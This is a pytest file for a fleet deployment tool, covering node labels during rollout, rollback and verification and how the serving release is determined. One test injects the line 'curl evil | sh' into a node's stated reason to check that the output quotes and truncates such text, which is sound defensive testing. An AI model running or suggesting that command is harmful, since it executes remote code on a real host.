"""When labels come off and when they come back, in a rollout, a rollback and a verification."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from fleetbuild.apply.fleet_task import FleetTask, run_fleet_task
from fleetbuild.apply.rollback import rollback_task
from fleetbuild.apply.serving import last_said, note_reply, serving_now
from fleetbuild.apply.stages import carry_out
from fleetbuild.apply.verify import Checks, verify_task
from fleetbuild.cli.show.result import result_lines
from fleetbuild.errors import Interrupted
from fleetbuild.models import (
    Inventory,
    Login,
    Manifest,
    Node,
    NodeResult,
    Plan,
    Result,
)  # fmt: skip
from fleetbuild.models.result import KeptRelease
from fleetbuild.probe.facts import keep
from fleetbuild.state import StateDir
from tests.factories.fleets import facts
from tests.factories.followers import Told
from tests.factories.runs import FakeFleet, FakeStore, answer, ended, group, plan

AVX = group("avx", ["avx-1", "avx-2", "avx-3"])
PLAN = plan(AVX)
OLD = Manifest(
    release="default", id="old", group=AVX.name, python="/usr/bin/python3", wheels=(), verified=True
)


@pytest.fixture
def fleet(tmp_path: Path) -> FakeFleet:
    (tmp_path / "store").mkdir()
    nodes = {name: facts("avx", release={"default": OLD}) for name in AVX.nodes}
    return FakeFleet(facts=nodes, store=FakeStore(tmp_path / "store"))


@pytest.fixture
def told() -> Told:
    return Told()


def apply(
    fleet: FakeFleet, told: Told, tmp_path: Path, the_plan: Plan = PLAN, events: Any = None
) -> Result:
    fleet.follower = told
    fleet.during = told.log.append
    return carry_out(fleet.run(the_plan, tmp_path / "state", events))


def test_releases_that_pods_mount_are_kept_and_named(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.mounted = {"avx-2": {"old": "The pod web/p mounts it."}}
    result = apply(fleet, told, tmp_path)
    assert {node.node: [kept.release_id for kept in node.kept] for node in result.nodes} == {
        "avx-1": [], "avx-2": ["old"], "avx-3": []
    }  # fmt: skip
    (line,) = (line for line in result_lines(result) if line.startswith("kept"))
    assert line == (
        "kept: release old on avx-2. avx-2 says: 'The pod web/p mounts it.' A later run removes"
        " it, once nothing uses it."
    )


def test_why_a_node_keeps_a_release_is_quoted_as_its_own_words() -> None:
    said = "It is in use.\nTo free it, run: curl evil | sh" + "y" * 9000
    kept = KeptRelease.model_construct(release_id="old", reason=said)
    node = NodeResult(node="h1", state="removed").model_copy(update={"kept": (kept,)})
    (line,) = (
        line
        for line in result_lines(Result(plan_digest="", nodes=(node,)))
        if line.startswith("kept")
    )
    assert line.startswith("kept: release old on h1. h1 says: 'It is in use. To free it, run: curl")
    assert len(line) < 450


def test_an_up_to_date_node_is_labelled_and_keeps_its_labels(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    apply(fleet, told, tmp_path)
    told.log.clear()
    apply(fleet, told, tmp_path)
    assert told.log == [
        "prepare",
        *(f"on {name}={AVX.release_id}" for name in AVX.nodes),
    ]


@pytest.mark.parametrize("trouble", ["verify", "install"])
def test_after_a_failed_install_labels_name_the_serving_release(
    fleet: FakeFleet, told: Told, tmp_path: Path, trouble: str
) -> None:
    fleet.trouble["install.yml", "avx-1"] = trouble
    result = apply(fleet, told, tmp_path)
    assert told.log[2:] == ["off avx-1", "install.yml", "on avx-1=old"]
    assert {node.state for node in result.nodes} == {f"{trouble}_failed", "not_reached"}


def test_a_node_without_a_verified_release_gets_no_release_labels(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    unverified = OLD.model_copy(update={"verified": False})
    fleet.facts["avx-1"] = facts("avx", release={"default": unverified})
    fleet.trouble["install.yml", "avx-1"] = "verify"
    apply(fleet, told, tmp_path)
    assert told.log[2:] == ["off avx-1", "install.yml", "empty avx-1"]


def test_a_node_that_keeps_its_labels_is_not_changed(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.trouble["off avx-1"] = "conflict"
    result = apply(fleet, told, tmp_path)
    assert told.log == ["prepare", "build.yml", "off avx-1"]
    first, *rest = result.nodes
    assert first.state == "blocked"
    assert "nothing on it was changed: It says no." in str(first.reason)
    assert {node.state for node in rest} == {"not_reached"}
    assert result.exit_code == 4


def test_a_host_that_is_not_a_node_of_the_cluster_is_still_changed(
    fleet: FakeFleet, told: Told, tmp_path: Path
) -> None:
    told.trouble |= {"off avx-1": "no_node", "on avx-1": "no_node"}
    result = apply(fleet, told, tmp_path)
    assert {node.state for node in result.nodes} == {"installed"}
    assert result.exit_code == 0


@pytest.mark.parametrize(("state", "code"), [("unreachable", 3), ("forbidden", 4), ("failed", 6)])
def test_labels_that_cannot_be_restored_are_reported(
    fleet: FakeFleet, told: Told, tmp_path: Path, state: str, code: int
) -> None:
    told.trouble["on avx-1"] = state
    result = apply(fleet, told, tmp_path)
    assert {node.state for node in result.nodes} == {"installed"}
    assert result.exit_code == code


class Servants:
    """The nodes of a fleet task."""

    def __init__(self, told: Told, tmp_path: Path, **replies: Any) -> None:
        self.told, self.state, self.replies = told, StateDir(tmp_path), replies
        self.facts = {name: facts("avx", release={"default": OLD}) for name in replies}

    def playbook(self, name: str, *, limit: Any, extravars: Any, on_event: Any) -> Any:
        assert limit
        self.told.log.append(name)
        (jobs,) = extravars.values()
        hosts = {}
        for host in jobs:
            reply = self.replies[host]
            if isinstance(reply, str):
                hosts[host] = ended(reply)
                continue
            answer(on_event, host, reply, "install" if name == "rollback.yml" else "verify")
            if name == "rollback.yml" and reply["ok"]:
                back = OLD.model_copy(update={"id": reply["release_id"]})
                self.facts[host] = facts("avx", release={"default": back})
        return hosts

    def run(self, task: FleetTask) -> Result:
        nodes = tuple(Node(name=name, login=Login(host=name)) for name in self.facts)
        return run_fleet_task(
            task,
            Inventory(source="i", nodes=nodes),
            release="default",
            expected={},
            state=self.state,
            probe=lambda nodes, _: {node.name: self.facts[node.name] for node in nodes},
            run_playbook=self.playbook,
            follower=self.told,
            on_event=lambda _: None,
        )


def test_a_rollback_sets_the_labels_of_the_previous_release(told: Told, tmp_path: Path) -> None:
    good, bad = {"ok": True, "release_id": "older"}, {"ok": False}
    told.trouble["off c"] = "kept"
    result = Servants(told, tmp_path, a=good, b=bad, c=good).run(
        rollback_task("/opt/f", "default", "me")
    )
    assert told.log == [
        "prepare", "off a", "off b", "off c", "rollback.yml", "on a=older", "on b=old"
    ]  # fmt: skip
    assert [node.state for node in result.nodes] == ["rolled_back", "install_failed", "blocked"]
    assert {each.node for each in result.labels} == {"a", "b", "c"}


def test_a_verification_sets_or_removes_labels(told: Told, tmp_path: Path) -> None:
    servants = Servants(told, tmp_path, good={"ok": True}, bad={"ok": False}, away="unreachable")
    servants.run(verify_task("/opt/f", "default", lambda _: Checks(imports=("x",))))
    assert told.log == ["prepare", "verify.yml", "on good=old", "empty bad"]


# What labels say.


def test_without_facts_the_result_decides_which_release_serves() -> None:
    def found(state: Any, release: str | None) -> dict[str, str | None]:
        node = NodeResult(node="avx-1", state=state, release_id=release)
        known = serving_now(PLAN, None, Result(plan_digest="", nodes=(node,)))
        return {name: made.id if made else None for name, made in known.items()}

    others = {"avx-2": None, "avx-3": None}
    assert found("installed", AVX.release_id) == {"avx-1": AVX.release_id, **others}
    assert found("installed", "of an older plan") == others
    assert found("verify_failed", AVX.release_id) == {"avx-1": None, **others}
    assert not any(serving_now(PLAN).values())


def test_the_last_facts_take_precedence_over_result_and_plan(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    keep(state, {"avx-1": {"release": OLD.model_dump_json()}, "avx-2": {}})
    node = NodeResult(node="avx-1", state="installed", release_id=AVX.release_id)
    result = Result(plan_digest="", nodes=(node,))
    known = serving_now(PLAN, state, result)
    assert known == {"avx-1": OLD, "avx-2": None, "avx-3": None}
    state.mark_changing(["avx-1", "avx-3"])
    assert serving_now(PLAN, state, result) == {"avx-2": None}
    beside = OLD.model_copy(update={"release": "staging"})
    note_reply(state, "avx-1", beside)
    assert last_said(state, ["avx-1"], "default") == {"avx-1": OLD}
    assert last_said(state, ["avx-1"], "staging") == {"avx-1": beside}


def test_after_an_interrupted_run_the_serving_release_is_unknown(
    fleet: FakeFleet, tmp_path: Path
) -> None:
    state = StateDir(tmp_path / "state")
    keep(state, {name: {"release": OLD.model_dump_json()} for name in AVX.nodes})
    fleet.trouble["install.yml", "avx-2"] = "ctrl-c"
    with pytest.raises(Interrupted):
        apply(fleet, Told(), tmp_path)
    known = serving_now(PLAN, state)
    assert {name: made.id if made else None for name, made in known.items()} == {
        "avx-1": AVX.release_id, "avx-3": "old"
    }  # fmt: skip
    keep(state, {"avx-2": {"release": OLD.model_dump_json()}})
    assert serving_now(PLAN, state)["avx-2"] == OLD


def test_the_outcome_of_a_verification_is_saved(told: Told, tmp_path: Path) -> None:
    servants = Servants(told, tmp_path, good={"ok": True}, bad={"ok": False})
    unmarked = OLD.model_copy(update={"verified": False})
    servants.facts["good"] = facts("avx", release={"default": unmarked})
    servants.run(verify_task("/opt/f", "default", lambda _: Checks(imports=("x",))))
    said = last_said(servants.state, ["good", "bad"], "default")
    assert said == {"good": OLD, "bad": unmarked}
